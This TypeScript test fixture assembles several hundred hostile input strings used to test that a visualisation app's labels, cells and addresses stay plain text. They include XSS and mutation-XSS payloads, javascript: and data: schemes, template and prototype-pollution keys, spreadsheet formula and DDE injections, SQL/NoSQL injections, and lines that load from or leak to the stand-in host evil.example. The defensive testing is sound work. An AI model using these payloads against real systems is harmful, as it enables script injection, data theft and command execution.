/**
 * What somebody could write in a cell, a label or an address, hoping that it becomes more than text. Whatever runs
 * calls `canary`.
 */
const RUN = 'canary()';

const elements = (
  'svg img iframe details video audio object embed math body input select textarea style link meta base form button a ' +
  'template slot noscript xmp marquee table frameset keygen isindex title dialog balise-figure'
).split(' ');
const handlers = ['onload', 'onerror', 'onfocus autofocus tabindex=1', 'ontoggle open', 'onmouseover', 'onanimationstart'];

const markup = [
  ...elements.flatMap((element, i) => [
    `<${element} ${handlers[i % handlers.length]!.replace(/^\w+/, `$&=${RUN}`)} src=x href=x>`,
    `"><${element}/${handlers[(i + 1) % handlers.length]!.replace(/^\w+/, `$&="${RUN}"`)}>`,
  ]),
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `</title><script>${RUN}</script>`,
  `</text><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<svg><script href="data:,${RUN}"/>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/>`,
  `<svg><animate attributeName=href values=javascript:${RUN} />`,
  `<svg><set attributeName=onmouseover to=${RUN}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><?xml-stylesheet href="javascript:${RUN}"?>`,
  `<img src="https://evil.example/pixel.png?leak">`,
  `<link rel=prefetch href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<p style="background:url(https://evil.example/x)">x</p>`,
  `<img src=x onerror=&#99;anary()>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<\u212Aey><img/src='x'/onerror='${RUN}'>`,
  `＜img src=x onerror=${RUN}＞`,
  `'-${RUN}-'`,
  `";${RUN};//`,
  `\`;${RUN};\``,
  `onerror=${RUN}`,
  `" onfocus=${RUN} autofocus x="`,
  `' style=x:expression(${RUN}) '`,
];

const templates = [
  `\${${RUN}}`, `{{${RUN}}}`, `{{constructor.constructor('${RUN}')()}}`, `{%${RUN}%}`, `<%= ${RUN} %>`, `#{${RUN}}`, `[[${RUN}]]`, `@{${RUN}}`,
  `\${\`\${${RUN}}\`}`, '<!--?lit$1$-->', '{{lit-1}}', '<?lit$0$>', '?lit$0$', 'class$lit$', '<!--{{lit-0}}-->', '$lit$', '<!---->', '-->', '--!>', '<!--',
]; // prettier-ignore

const SCHEME = ['java', 'script:'].join('');
const schemes = [SCHEME, SCHEME.replace('s', 'S'), 'java\tscript:', 'java\nscript:', '\u0001javascript:', ` ${SCHEME}`, 'javascript&colon;', 'jav&#x0A;ascript:', 'vbscript:', 'livescript:', 'data:text/html,<script>', 'data:text/html;base64,', 'blob:', 'file:///etc/passwd?', 'filesystem:', 'view-source:', 'about:blank#', 'ws://evil.example/', '//evil.example/', '\\\\evil.example\\', 'https:evil.example/', 'https://evil.example/?', 'http://127.0.0.1:1/', 'https://user:password@evil.example/', 'mailto:x@evil.example?', 'provider:evil?', 'url(javascript:', 'url(https://evil.example/)', 'url(#x)', '../../../../']; // prettier-ignore
const addresses = schemes.flatMap((scheme) => [`${scheme}${RUN}`, `<a href='${scheme}${RUN}'>`]);

/** Words of the languages that draw and compute here. */
const expressions = [
  `datum['x'] + event.view.${RUN}`, `event.view.${RUN}`, `event.target.ownerDocument.defaultView.${RUN}`, `datum.constructor.constructor('${RUN}')()`,
  `(function(){${RUN}})()`, `[].constructor.constructor('${RUN}')()`, `toString.constructor('${RUN}')()`, `'a'.replace(/a/, ${RUN})`, `scale('x', ${RUN})`,
  `lassoAppend([], ${RUN})`, `vlSelectionTuples([{}], {unit: ${RUN}})`, `warn(${RUN})`, `format(1, '${RUN}')`, `regexp('x', '${RUN}')`, `datum["x"]`, `datum.a\\.b`,
  'a[b].c\\', 'a.b.c', 'a[0]', "a['b']", 'a["b"]', '\\[a\\]', 'a\\.b', '\\', '\\\\', "it's", '"double"', '`tick`', "''", '""', '[object Object]', 'function(){}', '=>',
  '@mark:x', 'signal', 'data', 'datum', 'item', 'parent', 'role:mine', 'role-mine', 'mine', 'url(#a)', 'var(--balise-accent)', '} * { display: none', 'expression(1)',
  '%s %n %d', '{0}', '{count, plural, other {x}}', ':name', '?', '$1', '$&', "$'", '(?=(a+))+b', '(((((a+)+)+)+)+)$', '[a-', '*', '+++',
]; // prettier-ignore

const formulas = ['=1+1', '=HYPERLINK("https://evil.example")', "=cmd|'/C calc'!A0", '+1+1', '-1+1', '@SUM(1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠SUM(1)', "'=1", '"=1"', '%0A=1', ';=1', '|calc', '=IMPORTXML("https://evil.example")', 'DDE("cmd")']; // prettier-ignore
const queries = ["' OR 1=1 --", '"; DROP TABLE x; --', "') UNION SELECT 1 --", '1; ATTACH "x"', 'read_csv("/etc/passwd")', '{"$gt": ""}', '" or ""="', "\\' or 1=1", '/*x*/', '--', 'NULL', 'null', 'undefined', 'true', 'NaN', 'Infinity', '-Infinity']; // prettier-ignore
const numbers = ['1e999', '-1e999', '-0', '0x10', '0b1', '1_000', '1,000.5', '1.000,5', '١٢٣', '१२३', '１２', '²', '½', '1e-400', '9007199254740993', '1'.repeat(400), '.', ',', '-', '+', '1 000', '1\u202f000', '−5', '5%', '12/31/2024', '2024-02-30', '0000-00-00', '9999-99-99', '2024-W99', '2024-13', 'rentree:', 'session:NaN', '2024-2023', 'dep:', 'dep:<b>', 'com:00000', ':', 'uai:']; // prettier-ignore

const names = ['__proto__', 'constructor', 'prototype', '__defineGetter__', '__lookupSetter__', 'hasOwnProperty', 'toString', 'valueOf', 'toJSON', 'then', 'length', 'name', 'x:status', ':status', 'value:status', '_T', '_Z', 'territory', 'period', 'constructor.prototype.polluted', '__proto__[polluted]', '__proto__.polluted', '{"__proto__":{"polluted":1}}']; // prettier-ignore

const writings = [
  '\u202egnol yrev\u202c', '\u2066isolated', '\u2069closed', '\u200e\u200f\u061c', '\ufeffbom', '\u200b', '\u00ad', '\u2028\u2029', '\u0000', '\u0007\u0008\u001b[31m', '\u009b31m', '\ud800 alone', 'alone \udfff', '\ufffe\uffff', '\u{e0041}\u{e007f}',
  'line\nbreak', 'line\r\nbreak', '\ttab', ' ', '   ', '\u00a0', 'e\u0301'.repeat(300), 'Z\u0351\u036b\u0343\u036a'.repeat(60), '🏫'.repeat(300), '👨‍👩‍👧‍👦', '\ufdfd'.repeat(20), 'مدرسة الأمل', 'בית ספר', 'ﬀ', 'ı', 'İ', 'ß', 'ǅ', 'x'.repeat(10_000), 'W '.repeat(5_000), '<'.repeat(2_000), '&amp;'.repeat(500), ';'.repeat(300), '"'.repeat(301),
]; // prettier-ignore

/** At least three hundred, all different. */
export const hostileTexts: readonly string[] = [
  ...new Set([...markup, ...templates, ...addresses, ...expressions, ...formulas, ...queries, ...numbers, ...names, ...writings]),
];

/** As long as a label can be made: tried in few places. */
export const longText = `<img src=x onerror=${RUN}>`.repeat(40_000);
